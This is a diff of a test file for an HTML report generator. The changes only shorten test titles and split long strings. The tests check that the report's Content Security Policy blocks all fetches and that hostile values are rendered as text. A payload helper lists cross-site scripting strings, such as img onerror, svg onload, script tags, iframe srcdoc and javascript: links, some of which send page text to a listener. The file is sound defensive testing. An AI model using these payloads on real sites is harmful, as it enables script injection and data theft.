@@ -69,7 +69,7 @@ afterAll(async () => {
 });
 
 describe.skipIf(!available)('--html in headless Chromium', () => {
-  it('is one self-contained page: bars per entity, the graph, the trend and the list, with no request beyond itself', async () => {
+  it('one self-contained page: entity bars, graph, trend, list; no other requests', async () => {
     const page = await browser.newPage({ viewport: { width: 1300, height: 900 } });
     const requests: string[] = [];
     const problems: string[] = [];
@@ -136,7 +136,7 @@ describe.skipIf(!available)('--html in headless Chromium', () => {
     await page.close();
   });
 
-  it('declares a Content Security Policy that forbids every fetch and allows only its own style sheet and script, by their hashes', async () => {
+  it('its CSP forbids every fetch and allows only its own style and script, by hash', async () => {
     const html = await readFile(report, 'utf8');
     const [styles, scripts] = [
       [...html.matchAll(/<style>(.*?)<\/style>/gs)],
@@ -151,7 +151,8 @@ describe.skipIf(!available)('--html in headless Chromium', () => {
       .exec(html)![1]!
       .replaceAll('&#39;', "'");
     expect(policy).toBe(
-      `default-src 'none'; style-src ${hash(styles[0]![1]!)}; script-src ${hash(scripts[0]![1]!)}; base-uri 'none'; form-action 'none'`,
+      `default-src 'none'; style-src ${hash(styles[0]![1]!)}; ` +
+        `script-src ${hash(scripts[0]![1]!)}; base-uri 'none'; form-action 'none'`,
     );
     expect(html).not.toContain('unsafe-inline');
     expect(html).not.toMatch(/(src|href)="https?:/);
@@ -187,7 +188,8 @@ function payloads(listener: string): string[] {
     `<img src=x onerror="window.__pwned = 'img'; fetch('${listener}/img')">`,
     `"><svg onload="fetch('${listener}/attr?' + document.body.innerText)">`,
     `'><script>fetch('${listener}/quote')</script>`,
-    `</code></td></tr></tbody></table></title></style></script><script>fetch('${listener}/close')</script>`,
+    '</code></td></tr></tbody></table></title></style></script>' +
+      `<script>fetch('${listener}/close')</script>`,
     `<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>`,
     `<a href="javascript:window.__pwned='href'">x</a>`,
   ];
@@ -253,7 +255,8 @@ describe.skipIf(!available)('merge --html of a forged shard report, in headless 
   afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));
 
   for (const bypassCSP of [false, true]) {
-    it(`renders every hostile value as text, runs no script but its own (${bypassCSP ? 'with the policy switched off: escaping alone' : 'with the policy'})`, async () => {
+    const how = bypassCSP ? 'with the policy switched off: escaping alone' : 'with the policy';
+    it(`renders every hostile value as text, runs no script but its own (${how})`, async () => {
       const html = join(dir, `merged-${bypassCSP}.html`);
       const merged = await runCli(
         ['merge', '--config', FIXTURE_CONFIG, '--html', html, ...shards],
@@ -273,7 +276,8 @@ describe.skipIf(!available)('merge --html of a forged shard report, in headless 
       expect(
         await page
           .locator(
-            '#list img, #list svg[onload], #list iframe, #list a, #list script, #offenders script, #offenders img',
+            '#list img, #list svg[onload], #list iframe, #list a, #list script, ' +
+              '#offenders script, #offenders img',
           )
           .count(),
       ).toBe(0);
@@ -310,7 +314,7 @@ describe.skipIf(!available)('merge --html of a forged shard report, in headless 
 describe.skipIf(!available)(
   'the HTML renderer on its own, given hostile values even where validation would refuse them',
   () => {
-    it('escapes entity names, classes, codes and parent states too (the tag escapes every value)', async () => {
+    it('also escapes entity names, classes, codes and parent states (every value)', async () => {
       const hostile = '"><img src=x onerror="window.__pwned=1">';
       const mismatch = {
         key: hostile,
